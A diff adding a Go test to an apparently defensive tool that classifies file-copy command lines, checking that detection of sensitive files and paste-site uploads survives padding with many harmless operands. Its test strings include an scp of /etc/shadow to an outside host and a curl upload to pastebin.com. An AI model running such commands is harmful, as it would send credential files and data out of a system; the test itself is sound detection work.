@@ -1,6 +1,8 @@
 package netfilecopyprocessor
 
 import (
+	"slices"
+	"strings"
 	"testing"
 	"time"
 
@@ -10,6 +12,7 @@ import (
 
 	"github.com/copywatch/copywatch/internal/assessment"
 	"github.com/copywatch/copywatch/internal/cmdline"
+	"github.com/copywatch/copywatch/internal/destination"
 	"github.com/copywatch/copywatch/internal/grammar"
 )
 
@@ -144,6 +147,24 @@ func TestTheSSHBelowAnSCPIsLinked(t *testing.T) {
 	require.NotNil(t, other)
 	assert.Empty(t, other.transferOf, "it goes elsewhere: whoever is above, that is another copy")
 	assert.Equal(t, "high", other.band.Importance)
+}
+
+// Whoever runs a tool may give it any number of harmless operands, before and after what it is about.
+func TestNothingHidesAmongMany(t *testing.T) {
+	p := newProcessor(t, Config{})
+	for _, many := range []int{1, 30, 100, 1000} {
+		files, urls := strings.Repeat("/srv/x/a.txt ", many), strings.Repeat("http://127.0.0.1/a ", many)
+		v := verdictOf(t, p, "scp "+files+"/etc/shadow "+files+"h.example.org:", nil)
+		require.NotNil(t, v)
+		assert.Equal(t, []string{"/etc/shadow"}, v.sensitive, many)
+
+		v = verdictOf(t, p, "curl -T f "+urls+"https://pastebin.com/api "+urls, nil)
+		require.NotNil(t, v)
+		assert.Equal(t, destination.Paste, v.class, many)
+		listed := v.listedRemotes()
+		assert.LessOrEqual(t, len(listed), remotesMost)
+		assert.True(t, slices.ContainsFunc(listed, func(r grammar.Remote) bool { return r.Host == "pastebin.com" }), many)
+	}
 }
 
 func TestBound(t *testing.T) {
